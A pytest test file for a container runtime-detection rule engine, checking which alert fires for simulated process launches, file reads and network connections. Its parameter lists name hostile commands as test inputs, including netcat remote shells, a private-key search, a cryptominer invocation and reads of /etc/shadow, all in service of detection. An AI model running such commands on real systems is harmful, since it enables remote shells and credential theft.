from __future__ import annotations

from dataclasses import replace

import pytest

from aegis.localcluster.kubelet.watch.events import Ancestor, Connected, Executed, Opened, Process
from aegis.localcluster.kubelet.watch.rules import RULES, Surroundings, broken, notable, sensitive

PYTHON = Ancestor(name="python", command="python app.py", exe="python", exepath="/usr/local/bin/python3.11")
SHELL = Ancestor(name="sh", command="sh -c run", exe="sh", exepath="/usr/bin/dash")
AROUND = Surroundings(api_servers=frozenset({("10.96.0.1", 443)}))


def process(command: str, *above: Ancestor, cwd: str = "/", tty: int = 0) -> Process:
    words = tuple(command.split())
    return Process(
        name=words[0].rpartition("/")[2], arguments=words, exepath=words[0], cwd=cwd, tty=tty, ancestors=above
    )


def executed(command: str, *above: Ancestor, cwd: str = "/", tty: int = 0, event: Executed | None = None) -> str | None:
    rule = broken(event or Executed(call="execve", at=1), process(command, *above, cwd=cwd, tty=tty), AROUND)
    return rule.name if rule else None


def opened(path: str, command: str = "cat x") -> str | None:
    rule = broken(Opened(call="openat", at=1, path=path, raw=path), process(command), AROUND)
    return rule.name if rule else None


def connected(host: str, port: int) -> str | None:
    family = "ipv6" if ":" in host else "ipv4"
    event = Connected(at=1, family=family, protocol="tcp", local=("10.244.1.2", 4000), remote=(host, port))  # type: ignore[arg-type]  # one of both
    rule = broken(event, process("wget x"), AROUND)
    assert notable((host, port), AROUND) == (rule is not None)
    return rule.name if rule else None


@pytest.mark.parametrize("shell", ["sh", "/bin/bash", "/usr/bin/zsh", "ash", "dash"])
def test_a_shell_that_a_program_spawns(shell: str) -> None:
    assert executed(f"{shell} -c id", PYTHON) == "Run shell untrusted"


def test_a_containers_own_shell_and_a_shell_of_a_shell() -> None:
    assert executed("sh -c ./run") is None
    assert executed("sh -c ./run", SHELL, PYTHON) is None


def test_a_shell_that_merely_asks_who_it_is() -> None:
    assert executed("sh -c whoami", PYTHON) is None


def test_a_shell_on_a_terminal() -> None:
    assert executed("sh", tty=34816) == "Terminal shell in container"
    assert executed("sh", SHELL, tty=34816) is None


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("nc -l -p 9 -e /bin/sh", "Netcat Remote Code Execution in Container"),
        ("ncat --sh-exec sh 10.0.0.1 9", "Netcat Remote Code Execution in Container"),
        ("nc -z 10.0.0.1 80", "Launch Suspicious Network Tool in Container"),
        ("nmap 10.0.0.1", "Launch Suspicious Network Tool in Container"),
        ("find / -name id_rsa", "Search Private Keys or Passwords"),
        ("grep -r BEGIN_RSA /", None),
        ("/dev/shm/x", "Execution from /dev/shm"),
        ("sh -c /dev/shm/x", "Execution from /dev/shm"),
        ("apt-get install x", "Launch Package Management Process in Container"),
        ("miner -o stratum+tcp://pool:1", "Detect crypto miners using the Stratum protocol"),
        ("/tmp/xmrig", "Known Cryptominer Process Executed"),
        ("ls -l", None),
        ("python app.py", None),
        ("grep BEGIN /etc/hosts", None),
    ],
)
def test_programs(command: str, name: str | None) -> None:
    assert executed(command) == name


def test_a_relative_program_in_shared_memory() -> None:
    assert executed("./x", cwd="/dev/shm") == "Execution from /dev/shm"
    assert executed("./x", cwd="/tmp") is None


def test_keys_are_searched_for_in_any_case() -> None:
    asked = replace(process("grep x"), arguments=("grep", "-ri", "begin rsa PRIVATE", "/"))
    assert broken(Executed(call="execve", at=1), asked, AROUND) is RULES["Search Private Keys or Passwords"]


def test_what_was_not_in_the_image() -> None:
    dropped, memory = Executed(call="execve", at=1, dropped=True), Executed(call="execve", at=1, in_memory=True)
    assert executed("/tmp/x", event=dropped) == "Drop and execute new binary in container"
    assert executed("memfd:x", event=memory) == "Fileless execution via memfd_create"


def test_the_first_rule_of_several_is_told() -> None:
    dropped = Executed(call="execve", at=1, dropped=True)
    assert executed("/dev/shm/x", event=dropped) == "Execution from /dev/shm"
    assert executed("sh", PYTHON, tty=1, event=dropped) == "Run shell untrusted"


def test_a_package_manager_that_another_one_runs() -> None:
    apt = replace(SHELL, name="apt-get")
    assert executed("dpkg -i x", apt) is None


@pytest.mark.parametrize("path", ["/etc/shadow", "/etc/sudoers", "/etc/pam.conf", "/etc/sudoers.d/me", "/etc/pam.d/su"])
def test_sensitive_files(path: str) -> None:
    assert sensitive(path)
    assert opened(path) == "Read sensitive file untrusted"
    assert opened(path, "sshd") is None


@pytest.mark.parametrize("path", ["/etc/passwd", "/etc/shadow.bak", "/tmp/etc/shadow", "/etc/pam.d", "/etc/sudoers.d"])
def test_files_like_them(path: str) -> None:
    assert opened(path) is None


@pytest.mark.parametrize(
    ("host", "port", "name"),
    [
        ("10.96.0.1", 443, "Contact K8S API Server From Container"),
        ("10.96.0.1", 80, None),
        ("169.254.169.254", 80, "Contact EC2 Instance Metadata Service From Container"),
        ("8.8.8.8", 53, "Network Connection outside Local Subnet"),
        ("192.0.2.1", 443, "Network Connection outside Local Subnet"),
        ("2001:db8::1", 443, "Network Connection outside Local Subnet"),
        ("10.244.1.9", 8000, None),
        ("172.31.0.1", 80, None),
        ("172.32.0.1", 80, "Network Connection outside Local Subnet"),
        ("192.168.1.1", 80, None),
        ("127.0.0.1", 80, None),
        ("0.0.0.0", 80, None),  # noqa: S104 - a peer, not a listener
        ("::1", 80, None),
        ("fe80::1", 80, None),
    ],
)
def test_connections(host: str, port: int, name: str | None) -> None:
    assert connected(host, port) == name


def test_tags_are_as_an_alert_has_them() -> None:
    for rule in RULES.values():
        assert list(rule.tags) == sorted(rule.tags), rule.name
        assert rule.priority in {"Critical", "Error", "Warning", "Notice"}, rule.name
